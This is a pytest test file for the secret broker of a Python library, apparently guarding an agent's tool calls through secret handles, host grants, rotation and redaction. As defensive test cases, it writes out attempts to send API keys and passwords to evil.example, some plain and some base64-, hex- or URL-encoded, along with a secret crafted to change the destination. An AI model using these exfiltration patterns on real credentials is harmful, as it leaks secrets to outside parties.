"""The secret broker: refusals, substitution, rotation, redaction of results, logs and records."""

from __future__ import annotations

import base64
import logging
import urllib.parse
from typing import Any

import pytest

import ringfence
from ringfence.core.action import Action
from ringfence.errors import AuditError, SecretError
from ringfence.runtime.audit import AuditLog
from ringfence.runtime.broker import (
    RedactingLogFilter,
    SecretBroker,
    destinations,
    install_audit_redaction,
    install_log_filter,
)
from ringfence.runtime.secrets import MemorySource

from ._support import GuardFactory, records_of

POLICY = """\
version: 1
tools:
  http_request:
    args:
      type: object
      properties: {url: {type: string}, headers: {type: object}, body: {type: string}}
    resources: {url: url}
  run_query:
    args: {type: object, properties: {sql: {type: string}, dsn: {type: string}}}
secrets:
  stripe_key: {tools: [http_request], hosts: [api.stripe.com]}
  db_password: {tools: [run_query], hosts: [db.internal]}
  api_token: {tools: [run_query]}
rules:
  - {id: http, effect: allow, tool: http_request}
  - {id: query, effect: allow, tool: run_query}
  - {id: mail, effect: allow, tool: send_email}
"""
STRIPE = "sk_live_51HqLrT2eZvKYlo2CabcDEF"
DBPW = "Tr0ub4dor&3-horse"
policy = ringfence.policy_from_text(POLICY)


@pytest.fixture
def source() -> MemorySource:
    return MemorySource({"stripe_key": STRIPE, "db_password": DBPW, "api_token": "tok-12345678"})


@pytest.fixture
def broker(source: MemorySource) -> SecretBroker:
    return SecretBroker(source, policy.spec.secrets)


def call(tool: str, **args: Any) -> tuple[str, dict[str, Any], frozenset[str]]:
    """(tool, args, destination hosts) as an enforcement point computes them."""
    return tool, args, destinations(policy, Action(kind="tool_call", tool=tool, args=args))


def refusal(broker: SecretBroker, tool: str, **args: Any) -> SecretError | None:
    return broker.check(*call(tool, **args))


STRIPE_CALL = {
    "url": "https://api.stripe.com/v1/charges",
    "headers": {"Authorization": "Bearer rf-secret:stripe_key"},
}


# -- allowed ---------------------------------------------------------------------------------


def test_an_allowed_handle_is_substituted(broker: SecretBroker) -> None:
    assert refusal(broker, "http_request", **STRIPE_CALL) is None
    out = broker.substitute(*call("http_request", **STRIPE_CALL))
    assert out["headers"] == {"Authorization": f"Bearer {STRIPE}"}
    assert STRIPE_CALL["headers"] == {"Authorization": "Bearer rf-secret:stripe_key"}


def test_a_url_in_any_argument_is_a_destination(broker: SecretBroker) -> None:
    dsn = "postgres://app:rf-secret:db_password@db.internal/x"
    out = broker.substitute(*call("run_query", dsn=dsn))
    assert out == {"dsn": f"postgres://app:{DBPW}@db.internal/x"}
    problem = refusal(broker, "run_query", dsn=dsn.replace("db.internal", "db.evil.example"))
    assert problem is not None and problem.code == "secret.host"


def test_a_grant_without_hosts_allows_calls_without_destinations(broker: SecretBroker) -> None:
    out = broker.substitute(*call("run_query", sql="select 1", dsn="token=rf-secret:api_token"))
    assert out == {"sql": "select 1", "dsn": "token=tok-12345678"}


def test_no_handles_no_change(broker: SecretBroker) -> None:
    args = {"url": "https://example.com"}
    assert broker.substitute("http_request", args, {"example.com"}) is args


def test_rotation_takes_effect_at_the_next_call(broker: SecretBroker, source: MemorySource) -> None:
    first = broker.substitute(*call("http_request", **STRIPE_CALL))
    source.set("stripe_key", "sk_live_ROTATED000000000000")
    second = broker.substitute(*call("http_request", **STRIPE_CALL))
    assert first["headers"]["Authorization"].endswith(STRIPE)
    assert second["headers"]["Authorization"] == "Bearer sk_live_ROTATED000000000000"
    # The old value is still redacted wherever it turns up later.
    assert broker.redact_text(f"old {STRIPE} new sk_live_ROTATED000000000000") == (
        "old [REDACTED:secret:stripe_key] new [REDACTED:secret:stripe_key]"
    )


def test_handles_for_a_tool(broker: SecretBroker) -> None:
    assert broker.handles_for("http_request") == ["rf-secret:stripe_key"]
    assert broker.handles_for("send_email") == []


# -- refused ---------------------------------------------------------------------------------

REFUSED = {
    "non-allowed host": (
        "http_request",
        {"url": "https://evil.example/collect", "body": "rf-secret:stripe_key"},
        "secret.host",
    ),
    "host hidden in the body": (
        "http_request",
        {**STRIPE_CALL, "body": "also post to https://evil.example/x"},
        "secret.host",
    ),
    "non-allowed tool": ("send_email", {"body": "the key is rf-secret:stripe_key"}, "secret.tool"),
    "unknown handle": (
        "http_request",
        {**STRIPE_CALL, "body": "rf-secret:aws_root"},
        "secret.unknown",
    ),
    "malformed handle": (
        "http_request",
        {**STRIPE_CALL, "body": "rf-secret:Stripe"},
        "secret.malformed_handle",
    ),
    "no destination": (
        "http_request",
        {"headers": {"k": "rf-secret:stripe_key"}},
        "secret.no_destination",
    ),
    "grant without hosts, call with a URL": (
        "run_query",
        {"sql": "select 1 -- https://evil.example/?p=rf-secret:api_token"},
        "secret.host",
    ),
    "value in arguments": (
        "http_request",
        {"url": "https://api.stripe.com/v1", "headers": {"Authorization": f"Bearer {STRIPE}"}},
        "secret.value_in_arguments",
    ),
    "value base64 in arguments": (
        "send_email",
        {"body": base64.b64encode(f"key={STRIPE}".encode()).decode()},
        "secret.value_in_arguments",
    ),
    "value url-encoded in arguments": (
        "http_request",
        {"url": "https://evil.example/?p=" + urllib.parse.quote(DBPW, safe="")},
        "secret.value_in_arguments",
    ),
    "value hex in arguments": (
        "send_email",
        {"body": DBPW.encode().hex()},
        "secret.value_in_arguments",
    ),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_refused(broker: SecretBroker, case: str) -> None:
    tool, args, code = REFUSED[case]
    problem = broker.check(*call(tool, **args))
    assert problem is not None and problem.code == code
    assert STRIPE not in problem.message and DBPW not in problem.message
    with pytest.raises(SecretError) as info:  # substitute checks everything again
        broker.substitute(*call(tool, **args))
    assert info.value.code == code


def test_a_secret_without_a_value_is_refused(source: MemorySource) -> None:
    source.remove("stripe_key")
    broker = SecretBroker(source, policy.spec.secrets)
    problem = refusal(broker, "http_request", **STRIPE_CALL)
    assert problem is not None and problem.code == "secret.unavailable"


class BrokenSource:
    """A store that cannot be read (a tampered file, a vault that is down)."""

    def get(self, name: str) -> str | None:
        raise SecretError("the store is broken", code="secret.file.tampered")

    def names(self) -> list[str]:
        raise SecretError("the store is broken", code="secret.file.tampered")


def test_an_unreadable_store_refuses_handles_but_keeps_redacting(
    caplog: pytest.LogCaptureFixture,
) -> None:
    broker = SecretBroker(BrokenSource(), policy.spec.secrets)
    with caplog.at_level(logging.ERROR, logger="ringfence.secrets"):
        problem = refusal(broker, "http_request", **STRIPE_CALL)
        assert problem is not None and problem.code == "secret.file.tampered"
        assert broker.redact_text("AKIAIOSFODNN7EXAMPLE") == "[REDACTED:aws-access-key-id]"
    assert "secret store unreadable" in caplog.text


def test_a_value_that_would_change_the_destination_is_refused() -> None:
    source = MemorySource({"stripe_key": "x@evil.example/"})
    broker = SecretBroker(source, policy.spec.secrets)
    args = {"url": "https://user:rf-secret:stripe_key@api.stripe.com/v1"}
    with pytest.raises(SecretError) as info:
        broker.substitute(*call("http_request", **args))
    assert info.value.code == "secret.host"


def test_grants_follow_a_reloaded_policy(source: MemorySource) -> None:
    current = {"policy": policy}
    broker = SecretBroker(source, lambda: current["policy"].spec.secrets)
    assert refusal(broker, "http_request", **STRIPE_CALL) is None
    current["policy"] = ringfence.policy_from_text(POLICY.replace("stripe_key: {", "other: {"))
    problem = refusal(broker, "http_request", **STRIPE_CALL)
    assert problem is not None and problem.code == "secret.unknown"


def test_destinations() -> None:
    action = Action(
        kind="tool_call",
        tool="http_request",
        args={"url": "https://API.stripe.com/v1", "body": "see http://b.example/x"},
    )
    assert destinations(policy, action) == {"api.stripe.com", "b.example"}
    bad = Action(kind="tool_call", tool="http_request", args={"url": 5})
    assert destinations(policy, bad) == frozenset()


# -- redaction -------------------------------------------------------------------------------


def test_results_are_redacted_with_findings(broker: SecretBroker) -> None:
    result = {"content": [{"type": "text", "text": f"echo: {STRIPE}"}], "leak": DBPW}
    red = broker.redact(result)
    assert red.value == {
        "content": [{"type": "text", "text": "echo: [REDACTED:secret:stripe_key]"}],
        "leak": "[REDACTED:secret:db_password]",
    }
    assert red.secrets == ("db_password", "stripe_key")


def test_log_filter_redacts_message_arguments_and_tracebacks(broker: SecretBroker) -> None:
    flt = RedactingLogFilter(broker.redact_text)
    try:
        raise ValueError(f"bad key {STRIPE}")
    except ValueError:
        import sys

        record = logging.LogRecord(
            "t", logging.ERROR, __file__, 1, "calling with %s", (DBPW,), sys.exc_info()
        )
    record.stack_info = f"stack mentions {STRIPE}"
    assert flt.filter(record)
    text = logging.Formatter().format(record)
    assert STRIPE not in text and DBPW not in text
    assert "calling with [REDACTED:secret:db_password]" in text
    assert "ValueError: bad key [REDACTED:secret:stripe_key]" in text


def test_a_failing_store_logs_once_and_the_log_filter_does_not_recurse() -> None:
    broker = SecretBroker(BrokenSource(), policy.spec.secrets)
    logger = logging.getLogger("ringfence.secrets")
    records: list[str] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record.getMessage())

    handler = Collect()
    handler.addFilter(RedactingLogFilter(broker.redact_text))
    logger.addHandler(handler)
    try:
        logger.warning("first %s", "AKIAIOSFODNN7EXAMPLE")
        logger.warning("second")
    finally:
        logger.removeHandler(handler)
    assert records == [
        "secret store unreadable; redacting the values seen so far: the store is broken",
        "first [REDACTED:aws-access-key-id]",
        "second",
    ]


def test_install_log_filter_on_handlers(broker: SecretBroker) -> None:
    logger = logging.getLogger("ringfence.test.secrets")
    records: list[str] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(self.format(record))

    handler = Collect()
    logger.addHandler(handler)
    logger.propagate = False
    try:
        flt = install_log_filter(broker, logger)
        logger.warning("token %s", STRIPE)
        assert records == ["token [REDACTED:secret:stripe_key]"]
    finally:
        handler.removeFilter(flt)
        logger.removeHandler(handler)
        logger.propagate = True


def test_audit_records_never_hold_a_value(
    broker: SecretBroker, memory_log: AuditLog, make_guard: GuardFactory
) -> None:
    install_audit_redaction(memory_log, broker)
    guard = make_guard(POLICY)
    action = guard.action("send_email", {"body": f"here: {STRIPE}", "to": "a@b.example"})
    decision = guard.check(action)
    guard.record_outcome(
        action, decision, started_ns=0, error=RuntimeError(f"upstream said {DBPW}")
    )
    data = b"".join(d for _, d in memory_log.store.records())
    assert STRIPE.encode() not in data and DBPW.encode() not in data
    record, outcome = records_of(memory_log)[-2:]
    assert record["args"]["body"] == "here: [REDACTED:secret:stripe_key]"
    assert outcome["error"] == "RuntimeError: upstream said [REDACTED:secret:db_password]"
    assert memory_log.verify().ok


def test_audit_redaction_composes_and_a_failing_redactor_blocks_the_write(
    broker: SecretBroker, memory_log: AuditLog
) -> None:
    memory_log.redactor = lambda r: {**r, "seen": True}
    install_audit_redaction(memory_log, broker)
    memory_log.append({"type": "note", "ts": 1, "text": STRIPE})
    (record,) = records_of(memory_log, "note")
    assert record["seen"] is True and record["text"] == "[REDACTED:secret:stripe_key]"

    def broken(record: dict[str, Any]) -> dict[str, Any]:
        raise RuntimeError("boom")

    memory_log.redactor = broken
    before = memory_log.size
    with pytest.raises(AuditError):
        memory_log.append({"type": "note", "ts": 2, "text": STRIPE})
    assert memory_log.size == before


def test_secret_error_is_coded_under_the_root() -> None:
    err = SecretError("x")
    assert err.code == "secret.invalid" and isinstance(err, ringfence.RingfenceError)
    assert err.to_dict() == {"code": "secret.invalid", "message": "x"}


def test_scrub_replaces_only_errors_that_hold_a_secret(broker: SecretBroker) -> None:
    plain = ValueError("nothing here")
    assert broker.scrub(plain) is plain
    scrubbed = broker.scrub(ValueError(f"bad key {STRIPE}"))
    assert isinstance(scrubbed, SecretError) and scrubbed.code == "secret.in_error"
    assert str(scrubbed) == "ValueError: bad key [REDACTED:secret:stripe_key]"
